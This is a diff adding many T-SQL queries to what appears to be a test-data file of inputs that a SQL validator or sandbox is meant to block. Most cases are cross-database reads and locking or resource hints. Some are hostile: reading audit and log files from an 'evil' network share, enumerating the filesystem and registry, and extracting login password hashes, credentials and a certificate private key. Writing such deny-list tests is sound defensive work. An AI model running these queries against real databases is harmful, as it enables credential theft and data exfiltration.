@@ -494,3 +494,213 @@ SELECT 1 (SELECT 2)
 SELECT 1DELETE FROM t
 -- next
 SELECT 1e5DELETE FROM t
+-- next
+SELECT * FROM master.sys.sql_logins
+-- next
+SELECT name FROM master.sys.databases
+-- next
+SELECT * FROM msdb.dbo.sysjobs
+-- next
+SELECT * FROM msdb.dbo.backupset
+-- next
+SELECT * FROM OtherDb..Secrets
+-- next
+SELECT * FROM [OtherDb].[dbo].[Secrets]
+-- next
+SELECT * FROM "OtherDb"."dbo"."Secrets"
+-- next
+SELECT * FROM tempdb.sys.objects
+-- next
+SELECT * FROM tempdb..#t
+-- next
+SELECT * FROM ##t
+-- next
+SELECT a FROM ##shared WHERE a = 1
+-- next
+SELECT * FROM t JOIN OtherDb.dbo.u ON u.id = t.id
+-- next
+SELECT * FROM t WHERE id IN (SELECT id FROM OtherDb.dbo.u)
+-- next
+WITH c AS (SELECT * FROM model.sys.objects) SELECT * FROM c
+-- next
+SELECT OtherDb.dbo.fn_secret(1)
+-- next
+SELECT * FROM t CROSS APPLY OtherDb.dbo.tvf(t.a) AS f
+-- next
+SELECT [master].[sys].[objects].[name] FROM t
+-- next
+SELECT * FROM master..spt_values
+-- next
+SELECT * FROM [msdb]..[sysmail_account]
+-- next
+SELECT 1 AS a FROM t UNION ALL SELECT 1 FROM OtherDb.dbo.u
+-- next
+SELECT * FROM AdventureWorksLT2.SalesLT.Customer
+-- next
+SELECT * FROM t WITH (TABLOCK, HOLDLOCK)
+-- next
+SELECT * FROM t WITH (SERIALIZABLE, PAGLOCK)
+-- next
+SELECT * FROM t WITH (REPEATABLEREAD)
+-- next
+SELECT * FROM t WITH (HOLDLOCK)
+-- next
+SELECT * FROM t (TABLOCK)
+-- next
+SELECT * FROM t (SERIALIZABLE)
+-- next
+SELECT * FROM t WITH (PAGLOCK)
+-- next
+SELECT * FROM t WITH (READCOMMITTEDLOCK)
+-- next
+SELECT * FROM t AS a WITH (NOLOCK) JOIN u AS b WITH (TABLOCK) ON a.id = b.id
+-- next
+SELECT * FROM t WHERE id IN (SELECT id FROM u WITH (HOLDLOCK))
+-- next
+SELECT * FROM t WITH (NOLOCK, SERIALIZABLE)
+-- next
+SELECT * FROM t OPTION (MAXRECURSION 0)
+-- next
+WITH r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r OPTION (MAXRECURSION 0)
+-- next
+SELECT * FROM t OPTION (MAXRECURSION 32767)
+-- next
+SELECT * FROM t OPTION (MAXDOP 0)
+-- next
+SELECT * FROM t OPTION (MAXDOP 64)
+-- next
+SELECT * FROM t OPTION (MIN_GRANT_PERCENT = 100)
+-- next
+SELECT * FROM t OPTION (MAX_GRANT_PERCENT = 100)
+-- next
+SELECT * FROM t OPTION (QUERYTRACEON 8649)
+-- next
+SELECT * FROM t OPTION (RECOMPILE, QUERYTRACEON 8649)
+-- next
+SELECT * FROM t OPTION (USE PLAN N'<ShowPlanXML/>')
+-- next
+SELECT * FROM t OPTION (PARAMETERIZATION FORCED)
+-- next
+SELECT * FROM t OPTION (USE HINT ('ENABLE_PARALLEL_PLAN_PREFERENCE'))
+-- next
+SELECT * FROM t OPTION (TABLE HINT (t, TABLOCK))
+-- next
+SELECT * FROM t AS a INNER REMOTE JOIN u AS b ON a.id = b.id
+-- next
+SELECT 1 AS a UNION SELECT 2 OPTION (MAXDOP 8)
+-- next
+SELECT * FROM sys.fn_get_audit_file('\\evil\share\*.sqlaudit', DEFAULT, DEFAULT)
+-- next
+SELECT * FROM sys.fn_get_audit_file('C:\audit\*', NULL, NULL)
+-- next
+SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\s\*.xel', NULL, NULL, NULL)
+-- next
+SELECT * FROM fn_xe_file_target_read_file('C:\x\*.xel', NULL, NULL, NULL)
+-- next
+SELECT * FROM sys.fn_trace_gettable('\\evil\s\t.trc', 1)
+-- next
+SELECT * FROM sys.fn_trace_getinfo(0)
+-- next
+SELECT * FROM sys.traces
+-- next
+SELECT * FROM sys.dm_os_file_exists('\\evil\share\x')
+-- next
+SELECT * FROM sys.dm_os_enumerate_filesystem('C:\', '*')
+-- next
+SELECT * FROM sys.dm_os_enumerate_fixed_drives
+-- next
+SELECT * FROM sys.dm_server_registry
+-- next
+SELECT * FROM sys.dm_os_volume_stats(DB_ID(), 1)
+-- next
+SELECT * FROM sys.dm_server_services
+-- next
+SELECT * FROM sys.dm_server_memory_dumps
+-- next
+SELECT * FROM sys.fn_dblog(NULL, NULL)
+-- next
+SELECT * FROM fn_dblog(NULL, NULL)
+-- next
+SELECT * FROM sys.fn_dump_dblog(NULL, NULL, N'DISK', 1, N'\\evil\s\log.trn')
+-- next
+SELECT * FROM sys.fn_full_dblog(NULL, NULL, NULL, NULL, NULL, NULL, NULL)
+-- next
+SELECT * FROM sys.dm_db_log_info(DB_ID())
+-- next
+SELECT * FROM sys.fn_virtualfilestats(NULL, NULL)
+-- next
+SELECT * FROM sys.master_files
+-- next
+SELECT physical_name FROM sys.sysaltfiles
+-- next
+SELECT name, password_hash FROM sys.sql_logins
+-- next
+SELECT PWDCOMPARE('password', password_hash) FROM sys.sql_logins
+-- next
+SELECT PWDCOMPARE(N'x', 0x0100)
+-- next
+SELECT PWDENCRYPT(N'x')
+-- next
+SELECT LOGINPROPERTY('sa', 'PasswordHash')
+-- next
+SELECT * FROM sys.credentials
+-- next
+SELECT * FROM sys.database_scoped_credentials
+-- next
+SELECT * FROM sys.server_principals
+-- next
+SELECT * FROM syslogins
+-- next
+SELECT * FROM sys.syslogins
+-- next
+SELECT * FROM sys.linked_logins
+-- next
+SELECT * FROM sys.servers
+-- next
+SELECT * FROM sys.master_key_passwords
+-- next
+SELECT CERTPRIVATEKEY(CERT_ID('c'), 'pw')
+-- next
+SELECT * FROM sys.server_file_audits
+-- next
+SELECT * FROM sys.fn_get_sql(0x01)
+-- next
+SELECT * FROM [sys].[sql_logins]
+-- next
+SELECT * FROM "sys"."credentials"
+-- next
+SELECT * FROM t WHERE EXISTS (SELECT 1 FROM sys.sql_logins)
+-- next
+WITH l AS (SELECT name FROM sys.sql_logins) SELECT * FROM l
+-- next
+SELECT r.session_id, t.text FROM sys.dm_exec_requests r CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t
+-- next
+SELECT * FROM sys.dm_exec_sessions
+-- next
+SELECT * FROM sys.dm_exec_connections
+-- next
+SELECT * FROM sys.dm_exec_query_stats AS s CROSS APPLY sys.dm_exec_sql_text(s.sql_handle) AS t
+-- next
+SELECT * FROM sys.dm_tran_locks
+-- next
+SELECT * FROM sys.dm_os_wait_stats
+-- next
+SELECT * FROM sys.sysprocesses
+-- next
+SELECT * FROM sys.syscacheobjects
+-- next
+SELECT * FROM sys.dm_exec_input_buffer(52, 0)
+-- next
+SELECT * FROM sys.dm_db_page_info(DB_ID(), 1, 1, 'DETAILED')
+-- next
+SELECT p.plan_handle FROM sys.dm_exec_cached_plans AS p CROSS APPLY sys.dm_exec_sql_text(p.plan_handle) AS t
+-- next
+SELECT RAND(12345)
+-- next
+SELECT RAND(@seed)
+-- next
+SELECT TOP 1 RAND(1) AS r FROM t
+-- next
+SELECT * FROM t WHERE RAND(CHECKSUM(id)) > 0.5
+-- next
+select rand(0) as r
